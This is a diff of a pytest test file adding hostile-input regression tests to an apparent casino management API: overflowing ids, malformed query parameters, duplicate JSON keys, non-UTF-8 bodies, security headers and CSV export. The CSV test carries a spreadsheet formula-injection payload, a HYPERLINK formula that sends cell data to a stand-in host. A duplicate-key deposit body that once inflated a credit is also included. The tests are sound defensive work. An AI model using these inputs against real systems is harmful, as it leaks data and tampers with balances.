@@ -200,20 +200,24 @@ def test_hostile_paths_and_queries_are_problems(api, url):
     assert r.json.get("field"), r.json
 
 
-def test_path_integers_beyond_bigint_are_404_not_500(api, app):
+def test_path_ids_outside_the_integer_columns_are_422_naming_them(api, app):
+    """Every ``<int:…>`` path variable (player, redemption and hit ids, round and hand numbers) is looked up in
+    an SQL INTEGER column: 0, 2**31 (was a 500 on PostgreSQL), 2**63 and 10**30 → 422 naming the variable."""
     tried = 0
     for rule in app.url_map.iter_rules():
-        ints = [a for a, conv in rule._converters.items() if type(conv).__name__ == "Int64Converter"]
+        ints = [a for a, conv in rule._converters.items() if type(conv).__name__ == "IdConverter"]
         if not ints:
             continue
-        url = rule.rule
-        for a in rule.arguments:
-            url = url.replace(f"<int:{a}>", str(2**63)).replace(f"<{a}>", "M001")
-        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
-            r = api.as_staff("admin", method, url, {} if method in ("POST", "PUT", "PATCH") else None)
-            assert r.status_code == 404 and r.headers["Content-Type"] == "application/problem+json", (url, r.json)
-            tried += 1
-    assert tried >= 8
+        for bad in (0, 2**31, 2**63, 10**30):
+            url = rule.rule
+            for a in rule.arguments:
+                url = url.replace(f"<int:{a}>", str(bad)).replace(f"<{a}>", "M001")
+            for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
+                r = api.as_staff("admin", method, url, {} if method in ("POST", "PUT", "PATCH") else None)
+                assert r.status_code == 422 and r.headers["Content-Type"] == "application/problem+json", (url, r.json)
+                assert r.json["field"] == ints[0], (url, r.json)
+                tried += 1
+    assert tried >= 4 * 20
 
 
 @pytest.mark.parametrize("field, value", [("points_idle_days", 10**12), ("redemption_hold_seconds", 10**12),
@@ -227,3 +231,220 @@ def test_program_settings_that_would_overflow_dates_or_amounts_are_refused(api, 
     assert api.as_staff("host", "GET", "/api/v1/players/config", key=None).json == before
     pid = api.creds["players"][0]["player"]
     assert api.as_staff("host", "GET", f"/api/v1/players/{pid}", key=None).status_code == 200
+
+
+# ------------------------------------------------------------------ the outside tester's findings (docs/hostile-input.md)
+INT32_OVER = 2**31  # one above the INTEGER columns: a 500 on PostgreSQL before (NumericValueOutOfRange)
+
+
+def _problem(r, status: int, field: str | None) -> dict:
+    assert r.status_code == status and r.headers["Content-Type"] == "application/problem+json", (r.status_code, r.data)
+    if field is not None:
+        assert r.json["field"] == field, r.json
+    return r.json
+
+
+def test_ids_above_the_integer_columns_are_422_naming_them(api):
+    """The tester's 500s on PostgreSQL: a player, a table round, a poker and a mahjong hand, a deposit (path) and
+    a seat's ``player_id`` (body) of 2**31. Same on SQLite (where they were 404s and 409s)."""
+    before = api.audit()
+    for role, method, url, field in [
+        ("host", "GET", f"/api/v1/players/{INT32_OVER}", "player_id"),
+        ("host", "GET", f"/api/v1/players/{2**63 - 1}/points", "player_id"),
+        ("pit", "GET", f"/api/v1/tables/BAC-01/rounds/{INT32_OVER}", "number"),
+        ("pit", "GET", f"/api/v1/poker/tables/PK-01/hands/{INT32_OVER}", "number"),
+        ("pit", "GET", f"/api/v1/mahjong/tables/MJ-01/hands/{INT32_OVER}", "number"),
+        ("attendant", "POST", f"/api/v1/jackpots/hits/{INT32_OVER}/handpay", "hit_id"),
+    ]:
+        _problem(api.as_staff(role, method, url), 422, field)
+    _problem(api.as_staff("cashier", "POST", f"/api/v1/players/{INT32_OVER}/deposit", {"amount": 1_000}), 422,
+             "player_id")
+    _problem(api.as_machine("M001", "POST", f"/api/v1/machines/M001/redemptions/{INT32_OVER}/ack"), 422,
+             "redemption_id")
+    for pid in (INT32_OVER, 0, 2**63 - 1):
+        _problem(api.as_staff("pit", "POST", "/api/v1/tables/BAC-01/seats", {"seat": "1", "player_id": pid}), 422,
+                 "player_id")
+    # the largest id is an ordinary "not found"
+    assert api.as_staff("host", "GET", f"/api/v1/players/{2**31 - 1}", key=None).status_code == 404
+    assert api.audit() == before
+
+
+BAD_QUERIES = [
+    ("/api/v1/jackpots/hits?limit=%C2%B2", "limit"),  # ² : str.isdigit() says yes, int() says no (was a 500)
+    ("/api/v1/jackpots/hits?limit=abc", "limit"),
+    ("/api/v1/jackpots/hits?limit=-1", "limit"),
+    ("/api/v1/jackpots/hits?limit=0", "limit"),
+    ("/api/v1/jackpots/hits?limit=501", "limit"),
+    ("/api/v1/jackpots/events?limit=%C2%B2", "limit"),
+    ("/api/v1/jackpots/events?limit=1001", "limit"),
+    ("/api/v1/jackpots/events?limit=1e3", "limit"),
+    ("/api/v1/tables/BAC-01/roadmaps?shoe_no=%C2%B2", "shoe_no"),
+    ("/api/v1/tables/BAC-01/roadmaps?shoe_no=99999999999999999999999", "shoe_no"),
+    ("/api/v1/tables/BAC-01/roadmaps?shoe_no=2147483648", "shoe_no"),
+    ("/api/v1/tables/BAC-01/roadmaps?shoe_no=0", "shoe_no"),
+    ("/api/v1/players/1/sessions?limit=%D9%A3", "limit"),  # Arabic-Indic three: int() would take it
+    ("/api/v1/players/1/points?limit=100000", "limit"),
+    ("/api/v1/players/1/statement?wallet=both", "wallet"),
+    ("/api/v1/players/1/statement?limit=x", "limit"),
+    ("/api/v1/tito/reports/voided?from=yesterday", "from"),
+    ("/api/v1/tito/reports/issued?to=2026-1-1", "to"),
+    ("/api/v1/tito/reports/outstanding?format=xlsx", "format"),
+    ("/api/v1/tito/reports/outstanding?format=csv&table=nope", "table"),
+    ("/api/v1/jackpots/stream?max_seconds=inf", "max_seconds"),
+    ("/api/v1/jackpots/stream?max_seconds=%C2%B2", "max_seconds"),
+    ("/api/v1/games/tiger_reels_243/par-sheet?variation=" + "9" * 50, "variation"),
+]
+
+
+def test_bad_query_parameters_are_422_naming_them(api, cases=BAD_QUERIES):
+    """Every query parameter is declared (pydantic query models): a bad value is a 422 naming it, never a 500
+    nor a silent default."""
+    wrong = []
+    for url, field in cases:
+        role = {"jackpots": "operator", "tables": "pit", "players": "host", "tito": "auditor", "games": "operator"}[
+            url.split("/")[3].split("?")[0]]
+        r = api.as_staff(role, "GET", url, key=None)
+        if r.status_code != 422 or r.headers["Content-Type"] != "application/problem+json" or r.json["field"] != field:
+            wrong.append(f"{url} → {r.status_code} {r.get_json(silent=True)}")
+    assert not wrong, "\n".join(wrong)
+
+
+def test_good_query_parameters_still_work(api):
+    assert len(api.as_staff("operator", "GET", "/api/v1/jackpots/hits?limit=1", key=None).json["hits"]) <= 1
+    assert api.as_staff("operator", "GET", "/api/v1/jackpots/events?limit=1000", key=None).status_code == 200
+    assert api.as_staff("auditor", "GET", "/api/v1/tito/reports/voided?from=&to=", key=None).status_code == 200
+    assert api.as_staff("pit", "GET", "/api/v1/tables/BAC-01/roadmaps?shoe_no=1", key=None).status_code in (200, 404)
+
+
+def _player_balance(api, pid) -> dict:
+    return api.as_staff("host", "GET", f"/api/v1/players/{pid}", key=None).json
+
+
+def test_duplicate_json_keys_are_400_naming_the_key_and_change_nothing(api):
+    """``{"amount":1000,"amount":50000}`` credited ₩50,000 (the last key won)."""
+    from tests.e2e.test_players_api import enrol
+
+    pid = enrol(api)["player"]
+    before, audit = _player_balance(api, pid), api.audit()
+    headers = {"Authorization": f"Bearer {api.staff_token('cashier')}", "Idempotency-Key": uuid.uuid4().hex,
+               "Content-Type": "application/json"}
+    r = api.client.post(f"/api/v1/players/{pid}/deposit", data=b'{"amount":1000,"amount":50000}', headers=headers)
+    p = _problem(r, 400, "amount")
+    assert "more than once" in p["detail"]
+    nested = b'{"lines": 1, "multiplier": 1, "x": {"a": 1, "a": 2}}'  # at any depth, even in a field refused later
+    r = api.client.post("/api/v1/machines/M001/spin", data=nested, headers={
+        "Authorization": f"Bearer {api.key('M001')}", "Idempotency-Key": uuid.uuid4().hex, "Content-Type": "application/json"})
+    _problem(r, 400, "a")
+    # also on a route that takes no body: parsed before any route runs
+    r = api.client.post("/api/v1/machines/M001/cash-out", data=b'{"a":1,"a":1}', headers={
+        "Authorization": f"Bearer {api.key('M001')}", "Idempotency-Key": uuid.uuid4().hex, "Content-Type": "application/json"})
+    _problem(r, 400, "a")
+    assert _player_balance(api, pid) == before and api.audit() == audit
+
+
+def test_json_bodies_that_are_not_utf8_are_400_saying_so(api):
+    """UTF-16 JSON was accepted (Python's json.loads(bytes) guesses the encoding); RFC 8259 §8.1 says UTF-8."""
+    from tests.e2e.test_players_api import enrol
+
+    pid = enrol(api)["player"]
+    before, audit = _player_balance(api, pid), api.audit()
+    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig"):
+        headers = {"Authorization": f"Bearer {api.staff_token('cashier')}", "Idempotency-Key": uuid.uuid4().hex,
+                   "Content-Type": "application/json"}
+        r = api.client.post(f"/api/v1/players/{pid}/deposit", data=json.dumps({"amount": 1000}).encode(encoding),
+                            headers=headers)
+        p = _problem(r, 400, "body")
+        assert "UTF-8" in p["detail"] and p["encoding"] == "utf-8", (encoding, p)
+    assert _player_balance(api, pid) == before and api.audit() == audit
+
+
+def test_a_declared_charset_other_than_utf8_is_400(api):
+    headers = {"Authorization": f"Bearer {api.key('M001')}", "Idempotency-Key": uuid.uuid4().hex,
+               "Content-Type": "application/json; charset=utf-16"}
+    r = api.client.post("/api/v1/machines/M001/bill-in", data=json.dumps({"amount": 10_000}).encode("utf-16"),
+                        headers=headers)
+    _problem(r, 400, "Content-Type")
+    headers["Content-Type"] = "application/json; charset=UTF-8"
+    assert api.client.post("/api/v1/machines/M001/bill-in", data=b'{"amount": 10000}', headers=headers).status_code == 200
+
+
+def test_retry_after_on_every_429(api, monkeypatch):
+    """The TITO guard's lock-out and the PIN throttle say when to come back (they only said it in the body)."""
+    from tests.e2e.test_players_api import card_in, deposit, enrol, transfer
+    from tests.e2e.test_tito_api import ticket
+    from tito.settings import get_tito_settings
+
+    monkeypatch.setattr(get_tito_settings(), "guard_max_failures", 2)
+    real = ticket(api, "M006", 1_000)["validation_number"]
+    from tito.domain.validation import SystemValidation
+
+    gen = SystemValidation()
+    for _ in range(2):
+        api.as_staff("kiosk", "POST", "/api/v1/kiosk/redeem", {"validation_number": gen.next_number()})
+    r = api.as_staff("kiosk", "POST", "/api/v1/kiosk/redeem", {"validation_number": real})
+    _problem(r, 429, "validation_number")
+    assert 1 <= int(r.headers["Retry-After"]) <= get_tito_settings().guard_lockout_seconds, r.headers.get("Retry-After")
+
+    p = enrol(api, pin="2468")
+    deposit(api, p["player"], 100_000)
+    assert card_in(api, "M008", p["card_number"]).status_code == 201
+    for _ in range(3):
+        transfer(api, "M008", p["card_number"], 10_000, pin="1111")
+    r = transfer(api, "M008", p["card_number"], 10_000)
+    _problem(r, 429, "pin")
+    assert int(r.headers["Retry-After"]) == r.json["retry_after"]  # the seconds the body already gave
+
+
+def test_security_headers_on_pages_docs_and_the_api(api):
+    import base64
+    import hashlib
+    import re
+
+    page = api.client.get("/cashier")
+    csp = page.headers["Content-Security-Policy"]
+    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp, csp
+    assert "script-src 'self';" in csp  # no inline script on a page
+    assert b"<script>" not in page.data and b" style=" not in page.data and b"onclick" not in page.data
+    for r in (page, api.client.get("/docs"), api.as_staff("auditor", "GET", "/api/v1/audit/ledger", key=None),
+              api.client.get("/api/v1/floor")):
+        assert r.headers["X-Frame-Options"] == "DENY" and r.headers["X-Content-Type-Options"] == "nosniff", r.headers
+        assert r.headers["Referrer-Policy"] == "no-referrer"
+        assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"]
+    assert api.client.get("/api/v1/floor").headers["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'"
+    docs = api.client.get("/docs")
+    inline = re.findall(rb"<script>(.*?)</script>", docs.data, re.S)
+    script_src = next(d for d in docs.headers["Content-Security-Policy"].split(";") if d.strip().startswith("script-src"))
+    for body in inline:  # the offline Swagger UI page has none; any that appears is allowed only by its hash
+        assert f"'sha256-{base64.b64encode(hashlib.sha256(body).digest()).decode()}'" in script_src, script_src
+    assert "unsafe-inline" not in script_src and "unsafe-eval" not in script_src
+
+
+def test_reports_export_csv_from_the_server_with_formula_cells_neutralised(api):
+    """A void reason typed as a formula was written as a live formula by the browser's CSV export."""
+    import csv
+    import io
+
+    from tests.e2e.test_tito_api import ticket
+
+    reasons = ["=HYPERLINK(\"http://x/?\"&A1,\"click\")", "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=1", "plain, \"quoted\""]
+    numbers = []
+    for reason in reasons:
+        vn = ticket(api, "M003", 1_000)["validation_number"]
+        r = api.as_staff("supervisor", "POST", f"/api/v1/tickets/{vn}/void", {"reason": reason})
+        assert r.status_code in (200, 201), r.json
+        numbers.append(vn)
+    r = api.as_staff("auditor", "GET", "/api/v1/tito/reports/voided?format=csv&table=tickets", key=None)
+    assert r.status_code == 200 and r.mimetype == "text/csv", (r.status_code, r.data[:300])
+    assert "attachment" in r.headers["Content-Disposition"]
+    text = r.data.decode("utf-8")
+    assert text.startswith("\ufeff")
+    rows = list(csv.DictReader(io.StringIO(text[1:], newline="")))
+    stored = {t["validation_number"]: t["reason"]
+              for t in api.as_staff("auditor", "GET", "/api/v1/tito/reports/voided", key=None).json["tickets"]}
+    assert len(rows) == len(stored) >= len(reasons) and set(numbers) <= set(stored)
+    for row in rows:  # every formula-like reason (the service trims the tab / CR ones to "=1") is text, not a formula
+        reason = stored[row["validation_number"]]
+        expected = "'" + reason if reason[:1] in ("=", "+", "-", "@", "\t", "\r") else reason
+        assert row["reason"] == expected, (row, reason)
+    assert sum(row["reason"].startswith("'") for row in rows) == len(reasons) - 1
+    assert 'plain, "quoted"' in {row["reason"] for row in rows}  # ordinary text is kept as it is, RFC 4180 quoted
